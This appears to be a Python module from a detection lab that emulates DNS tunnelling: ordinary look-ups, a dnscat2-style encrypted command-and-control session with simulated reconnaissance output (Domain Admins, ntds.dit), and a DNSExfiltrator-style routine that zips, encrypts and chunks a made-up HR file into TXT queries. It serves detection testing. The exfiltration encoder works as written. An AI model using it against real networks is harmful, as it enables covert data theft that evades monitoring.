"""Exfiltration and command-and-control over DNS for the dcwatch lab, run inside a workstation
namespace like lab/attacks.py:

    ip netns exec dcw-ws1 /var/lib/dcwatch-lab/venv/bin/python -m lab.attacks_exfil STEP ...

Stdlib sockets only: every query is a plain RFC 1035 UDP message to the DC's DNS server (the
workstation's resolver), as the tools send them. The attacker's authoritative name server does
not exist in the lab (the DC has no forwarder), so Samba answers the attacker domain with an
error; the clients do not wait for the server's replies to go on (what the DC sees on the wire
is the client's side of the channel, which is all 2031 looks at). Every step prints one line
per observable result.
"""

from __future__ import annotations

import argparse
import base64
import hashlib
import io
import random
import socket
import struct
import sys
import time
import zipfile

DC_IP = "10.77.0.10"

# RFC 1035 3.2.2 (and RFC 3596 for AAAA, RFC 2782 for SRV)
QTYPE = {"A": 1, "NS": 2, "CNAME": 5, "SOA": 6, "NULL": 10, "PTR": 12, "MX": 15, "TXT": 16,
         "AAAA": 28, "SRV": 33}
RCODE = {0: "NOERROR", 1: "FORMERR", 2: "SERVFAIL", 3: "NXDOMAIN", 4: "NOTIMP", 5: "REFUSED"}


def out(msg: str) -> None:
    print(msg, flush=True)


class Resolver:
    """One UDP socket to the DC's DNS; queries with RD set, replies read with a short timeout."""

    def __init__(self, server: str = DC_IP, timeout: float = 1.0) -> None:
        self.server = server
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.settimeout(timeout)
        self.rcodes: dict[str, int] = {}
        self.sent = 0

    @staticmethod
    def message(name: str, qtype: int, txid: int) -> bytes:
        # RFC 1035 4.1.1 header: ID, flags (RD), QDCOUNT 1; 4.1.2 question: QNAME QTYPE QCLASS
        labels = [p.encode() for p in name.rstrip(".").split(".")]
        for lab in labels:
            if not 0 < len(lab) <= 63:
                raise ValueError(f"label of {len(lab)} bytes in {name!r}")
        qname = b"".join(bytes([len(p)]) + p for p in labels) + b"\x00"
        if len(qname) > 255:
            raise ValueError(f"name of {len(qname)} bytes: {name!r}")
        return struct.pack(">HHHHHH", txid, 0x0100, 1, 0, 0, 0) + qname + struct.pack(
            ">HH", qtype, 1)

    def query(self, name: str, qtype: str = "A", wait: bool = True) -> str:
        txid = random.getrandbits(16)
        self.sock.sendto(self.message(name, QTYPE[qtype], txid), (self.server, 53))
        self.sent += 1
        rc = "no reply"
        if wait:
            try:
                while True:
                    r = self.sock.recv(4096)
                    if len(r) >= 12 and struct.unpack(">H", r[:2])[0] == txid:
                        rc = RCODE.get(r[3] & 0xF, str(r[3] & 0xF))
                        ans = struct.unpack(">H", r[6:8])[0]
                        if ans:
                            rc += f"/{ans} answers"
                        break
            except OSError:
                pass
        self.rcodes[rc] = self.rcodes.get(rc, 0) + 1
        return rc

    def summary(self, what: str) -> None:
        counts = ", ".join(f"{k} {v}" for k, v in sorted(self.rcodes.items()))
        out(f"{what}: {self.sent} queries ({counts})")


def labels_of(data: str, size: int = 63) -> str:
    """Split encoded data into DNS labels of at most ``size`` characters."""
    return ".".join(data[i:i + size] for i in range(0, len(data), size))


def keystream(key: bytes, n: int) -> bytes:
    """A stand-in for the tools' stream ciphers (dnscat2: Salsa20, DNSExfiltrator: RC4)."""
    blocks = (hashlib.sha256(key + i.to_bytes(8, "big")).digest() for i in range(n // 32 + 1))
    return b"".join(blocks)[:n]


def encrypt(key: bytes, data: bytes) -> bytes:
    return bytes(a ^ b for a, b in zip(data, keystream(key, len(data)), strict=True))


# --------------------------------------------------------------------------- benign look-ups

ORDINARY = [
    # what a Windows workstation and its user's browser / mail / update clients ask for
    ("dc01.contoso.local", "A"), ("contoso.local", "A"),
    ("_ldap._tcp.Default-First-Site-Name._sites.dc._msdcs.contoso.local", "SRV"),
    ("_kerberos._tcp.Default-First-Site-Name._sites.dc._msdcs.contoso.local", "SRV"),
    ("www.msftconnecttest.com", "A"), ("dns.msftncsi.com", "A"),
    ("ctldl.windowsupdate.com", "A"), ("settings-win.data.microsoft.com", "A"),
    ("v10.events.data.microsoft.com", "A"), ("login.microsoftonline.com", "A"),
    ("outlook.office365.com", "A"), ("outlook.office365.com", "AAAA"),
    ("teams.microsoft.com", "A"), ("www.bing.com", "A"), ("www.google.com", "A"),
    ("www.google.com", "AAAA"), ("fonts.gstatic.com", "A"), ("ocsp.digicert.com", "A"),
    ("crl3.digicert.com", "A"), ("ocsp.pki.goog", "A"), ("github.com", "A"),
    ("api.github.com", "A"), ("objects.githubusercontent.com", "A"), ("pypi.org", "A"),
    ("files.pythonhosted.org", "A"), ("www.wikipedia.org", "A"), ("slack.com", "A"),
    ("wss-primary.slack.com", "A"), ("zoom.us", "A"), ("us04web.zoom.us", "A"),
    ("cdn.jsdelivr.net", "A"), ("a.nel.cloudflare.com", "A"), ("www.linkedin.com", "A"),
    ("static.licdn.com", "A"), ("d3h5jvdhzv1k3w.cloudfront.net", "A"),
    ("rr3---sn-4g5e6nsz.googlevideo.com", "A"), ("i.ytimg.com", "A"),
    ("www.youtube.com", "A"), ("update.googleapis.com", "A"), ("time.windows.com", "A"),
    ("fabrikam.com", "MX"), ("fabrikam.com", "TXT"), ("_dmarc.fabrikam.com", "TXT"),
    ("selector1._domainkey.fabrikam.com", "TXT"), ("autodiscover.fabrikam.com", "A"),
    ("o450123.ingest.sentry.io", "A"), ("browser-intake-datadoghq.com", "A"),
    ("e7.c.lencr.org", "A"), ("r3.o.lencr.org", "A"), ("x1.c.lencr.org", "A"),
]


def step_lookups(args) -> None:
    """Ordinary look-ups (the ORDINARY list, ``--rounds`` times with pauses, as caches expire)."""
    r = Resolver()
    names = list(ORDINARY) + [(n, args.qtype) for n in args.names]
    for i in range(args.rounds):
        for name, qtype in random.Random(i).sample(names, len(names)):
            r.query(name, qtype)
            time.sleep(args.delay)
    r.summary("ordinary look-ups")


# --------------------------------------------------------------------------- dnscat2


def step_dnscat2(args) -> None:
    """dnscat2 client (``dnscat2 --dns domain=D,server=DC``): an encrypted command session.

    dnscat2 protocol (doc/protocol.md): each packet is hex-encoded and split into labels of at
    most 63 characters under the domain: ``<hex>.<hex>.D``; the client picks the record type at
    random among TXT, CNAME and MX (its default ``--dns`` types). Packet = packet_id(2)
    message_type(1) session_id(2) then SYN: seq(2) options(2) name; MSG: seq(2) ack(2) data.
    The session's data is encrypted (ENC negotiation, then Salsa20): random-looking bytes.
    Between commands the client polls the server with empty MSG packets.
    """
    r = Resolver(timeout=0.3)
    rnd = random.Random(args.seed)
    session = rnd.getrandbits(16)
    seq = rnd.getrandbits(16)
    ack = 0
    key = rnd.randbytes(32)
    types = ["TXT", "CNAME", "MX"]

    def send(packet_type: int, body: bytes) -> None:
        pkt = struct.pack(">HBH", rnd.getrandbits(16), packet_type, session) + body
        name = f"{labels_of(pkt.hex())}.{args.domain}"
        r.query(name, rnd.choice(types), wait=False)
        time.sleep(args.delay)

    # ENC init: public key exchange (two 32-byte halves of an ECDH key each way), then SYN
    send(0x03, struct.pack(">HH", 0x00, 0x00) + rnd.randbytes(64))
    send(0x03, struct.pack(">HH", 0x01, 0x00) + rnd.randbytes(32))
    send(0x00, struct.pack(">HH", seq, 0x0001) + b"command session\x00")
    out(f"dnscat2: session {session:04x} opened to {args.domain}")
    outputs = [
        b"contoso\\alice\r\n",
        b"Windows IP Configuration\r\n\r\n   IPv4 Address. . . : 10.77.0.21\r\n"
        b"   Subnet Mask . . . : 255.255.255.0\r\n   DNS Servers . . . : 10.77.0.10\r\n",
        b"Group name     Domain Admins\r\nComment        Designated administrators\r\n"
        b"Members\r\n------------------------------------------------\r\n"
        b"Administrator            da.admin\r\nThe command completed successfully.\r\n",
        b"\\\\dc01.contoso.local\\data\\backup\\ntds.dit  49152 KB\r\n" * 3,
    ]
    for data in outputs:
        for _ in range(args.polls):  # idle polls while the operator types
            send(0x01, struct.pack(">HH", seq, ack))
        ack = (ack + rnd.randint(8, 40)) & 0xFFFF
        blob = encrypt(key + seq.to_bytes(2, "big"), data)
        # a packet must fit a 253-character name: <= 100 bytes of payload per MSG here
        for i in range(0, len(blob), 100):
            chunk = blob[i:i + 100]
            send(0x01, struct.pack(">HH", seq, ack) + chunk)
            seq = (seq + len(chunk)) & 0xFFFF
    send(0x02, b"bye\x00")
    r.summary(f"dnscat2 session to {args.domain}")


# --------------------------------------------------------------------------- DNSExfiltrator


def fake_document(rows: int, seed: int) -> bytes:
    """The stolen file: an HR export (CSV) of made-up employees."""
    rnd = random.Random(seed)
    first = ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy"]
    last = ["smith", "jones", "brown", "taylor", "wilson", "davies", "evans", "thomas"]
    lines = ["employee_id,name,email,iban,salary,ssn"]
    for i in range(rows):
        f, la = rnd.choice(first), rnd.choice(last)
        lines.append(
            f"{1000 + i},{f.title()} {la.title()},{f}.{la}@contoso.local,"
            f"DE{rnd.randrange(10**19, 10**20)},{rnd.randrange(38000, 160000)},"
            f"{rnd.randrange(100, 999)}-{rnd.randrange(10, 99)}-{rnd.randrange(1000, 9999)}")
    return ("\r\n".join(lines) + "\r\n").encode()


def step_dnsexfiltrator(args) -> None:
    """DNSExfiltrator client (``Invoke-DNSExfiltrator -i FILE -d DOMAIN -p PASS -s DC``).

    The file is zipped, encrypted (RC4 with the password; a keyed stream stands in for it) and
    base64url-encoded (base32 with ``-b32``). First ``init.<base32(name|chunks)>.base64.D``,
    then one TXT query per chunk: ``<index>.<data in 63-character labels>.D``, names of at most
    ``--max-request`` characters (the tool's default 255).
    """
    raw = fake_document(args.rows, args.seed)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(args.file_name, raw)
    blob = encrypt(args.password.encode(), buf.getvalue())
    if args.b32:
        data, enc = base64.b32encode(blob).decode().rstrip("="), "base32"
    else:
        data, enc = base64.urlsafe_b64encode(blob).decode().rstrip("="), "base64"
    # room for the data: 253 characters minus the domain, the index and the dots
    room = args.max_request - len(args.domain) - 8
    per_query = room - room // 64
    chunks = [data[i:i + per_query] for i in range(0, len(data), per_query)]
    r = Resolver(timeout=0.3)
    init = base64.b32encode(f"{args.file_name}|{len(chunks)}".encode()).decode().rstrip("=")
    r.query(f"init.{init}.{enc}.{args.domain}", "TXT")
    for i, chunk in enumerate(chunks):
        r.query(f"{i}.{labels_of(chunk)}.{args.domain}", "TXT", wait=False)
        time.sleep(args.delay)
    out(f"DNSExfiltrator: {args.file_name} ({len(raw)} bytes, {len(buf.getvalue())} zipped) "
        f"sent as {len(chunks)} {enc} chunks to {args.domain}")
    r.summary(f"DNSExfiltrator to {args.domain}")


STEPS = {name[5:]: fn for name, fn in globals().items() if name.startswith("step_")}


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(prog="python -m lab.attacks_exfil")
    ap.add_argument("step", choices=sorted(STEPS))
    ap.add_argument("--domain", default="")
    ap.add_argument("--names", nargs="*", default=[])
    ap.add_argument("--qtype", default="A", choices=sorted(QTYPE))
    ap.add_argument("--rounds", type=int, default=1)
    ap.add_argument("--delay", type=float, default=0.05)
    ap.add_argument("--polls", type=int, default=5)
    ap.add_argument("--seed", type=int, default=2031)
    ap.add_argument("--file-name", default="hr-export.csv")
    ap.add_argument("--rows", type=int, default=120)
    ap.add_argument("--password", default="Exf1ltr4te!")
    ap.add_argument("--b32", action="store_true")
    ap.add_argument("--max-request", type=int, default=255)
    args = ap.parse_args(argv)
    STEPS[args.step](args)
    return 0


if __name__ == "__main__":
    sys.exit(main())
